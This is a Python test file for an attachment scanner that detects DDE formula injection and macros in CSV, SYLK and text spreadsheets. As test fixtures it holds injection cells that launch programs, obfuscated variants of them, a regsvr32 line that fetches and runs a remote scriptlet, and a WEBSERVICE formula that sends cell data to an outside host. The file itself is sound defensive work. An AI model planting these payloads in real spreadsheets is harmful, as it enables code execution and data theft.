"""Text spreadsheets: a formula in a cell can start a program, the same letters in prose cannot."""

from __future__ import annotations

import time

import pytest

from attachguard.formats.text import spreadsheettext as inspector
from attachguard.limits import Budget, Limits
from attachguard.part import Part
from attachguard.types.filetypes import filetype
from tests import HANG
from tests.fixtures.spreadsheettext import SAMPLES, TABLE


def details(report, code):
    return [finding.detail for finding in report.findings if finding.code == code]


@pytest.mark.parametrize("sample", ["plain/liste.csv", "lookalike/brief.txt", "plain/tabelle.slk"])
def test_ordinary_tables_and_letters_have_no_findings(scan, sample):
    assert scan(SAMPLES[sample](), sample.rpartition("/")[2]).findings == ()


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/c calc.exe'!A0",
        "\"=cmd|'/c calc.exe'!A0\"",
        "+cmd|'/c calc.exe'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll'!''",
        "=cmd|notepad!A1",
        '=DDE("cmd";"/C calc";"x")',
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_dde_formula_in_a_cell_is_active(scan, cell, codec):
    report = scan((TABLE + f"Huber;{cell}\r\nMeier;3\r\n").encode(codec), "liste.csv")
    found = details(report, "active-content")
    assert len(found) == 1
    assert found[0].startswith("DDE formula: ")


@pytest.mark.parametrize("sample", ["dde/liste.txt", "dde/liste.dif", "dde/tabelle.slk"])
def test_dde_is_found_in_the_other_text_forms(scan, sample):
    assert len(details(scan(SAMPLES[sample](), sample.rpartition("/")[2]), "active-content")) == 1


def test_a_function_that_fetches_is_a_reference(scan):
    data = (
        TABLE
        + '"=WEBSERVICE(""https://198.51.100.7/?a=""&A1)";1\r\n"=HYPERLINK(""https://198.51.100.7/"",""Klick"")";2\r\n'
    )
    found = details(scan(data.encode(), "liste.csv"), "external-reference")
    assert sorted(detail.split(":")[0] for detail in found) == [
        "spreadsheet function HYPERLINK",
        "spreadsheet function WEBSERVICE",
    ]


def test_a_sylk_macro_sheet_is_a_macro_and_a_layer(scan):
    report = scan(SAMPLES["macro/tabelle.slk"](), "tabelle.slk")
    assert details(report, "macro-content") == ["XLM (auto-exec, suspicious): SYLK macro sheet, 2 formulas, EXEC HALT"]
    assert [part.role for part in report.parts] == ["attachment", "layer"]


def test_a_truncated_macro_sheet_is_still_one(codes):
    assert "macro-content" in codes(SAMPLES["truncated/tabelle.slk"](), "tabelle.slk")


@pytest.mark.parametrize("piece", ["=a|'", ',"=', "=cmd|x", ",=,", "C;E;;", "-a|b!"])
def test_repetition_takes_linear_time(piece):
    part = Part("a.csv", ("ID;P\n" + piece * 40_000 + "!|").encode(), role="attachment", budget=Budget(Limits()))
    part.load()
    for kind in ("csv", "slk", "txt"):
        part.types = [filetype(kind)]
        start = time.process_time()
        list(inspector.inspect(part))
        assert time.process_time() - start < HANG


@pytest.mark.parametrize(
    "cell",
    [
        b"\xef\xbb\xbf=cmd|'/c calc'!A1",
        b"=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
        b"= C    m D               |        '/       c       c  al  c  .  e            x       e  '   !   A",
        b"=\0\0C\0m\0D\0|'/c calc'!A1",
        b"=" + b" " * 60 + b"cmd|'/c calc'!A1",
        b"=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
        b"+thespanishinquisition(cmd|'/c calc.exe'!A",
    ],
)
def test_a_formula_is_found_whatever_stands_around_it(bare_scan, cell):
    findings = bare_scan(cell + b"\r\n", "liste.csv").findings
    assert [finding.detail.partition(":")[0] for finding in findings if finding.code == "active-content"] == [
        "DDE formula"
    ]


@pytest.mark.parametrize(
    "line",
    [
        b"- Punkt 1 | Achtung! wichtig, x",
        b"cmd | Befehl ! wichtig",
        b"a|b!c|d",
        b"=SUM(A1:A3),-5,+49 631",
        b"@firma | Sale! jetzt,x",
    ],
)
def test_prose_with_bars_is_no_formula(bare_scan, line):
    assert bare_scan(b"x,y\r\n" + line + b"\r\n", "liste.csv").findings == ()


def test_cells_built_to_be_slow_are_not(bare_scan):
    start = time.perf_counter()
    for cell in (b'="a', b'"=' + b"a" * 50, b"= \t", b"=a|'", b'=""'):
        bare_scan(b"|!," + cell * (200_000 // len(cell)), "liste.csv")
    assert time.perf_counter() - start < HANG


@pytest.mark.parametrize(
    ("data", "formula"),
    [
        (b"a,b\n\"x, =cmd|'/c calc'!A0\",1\n", False),
        (b"a;b\n\"x, =cmd|'/c calc'!A0\";1\n", False),
        (b'a,b\n"text,";=cmd|\'/c calc\'!A0;";",x\n', True),
        (b'a,b\n"x\n","=cmd|\'/c calc\'!A0"\n', True),
        (b'a,b\n"",""=cmd|\'/c calc\'!A0\n', True),
        (b"a,b\n\"=c\"md|'/c calc'!A0\n", True),
        (b"a,b\n\"\"Zitat=cmd|'/c calc'!A0\n", False),
    ],
)
def test_a_formula_is_one_where_a_cell_begins_by_any_delimiter(codes, data, formula):
    assert ("active-content" in codes(data, "liste.csv")) == formula
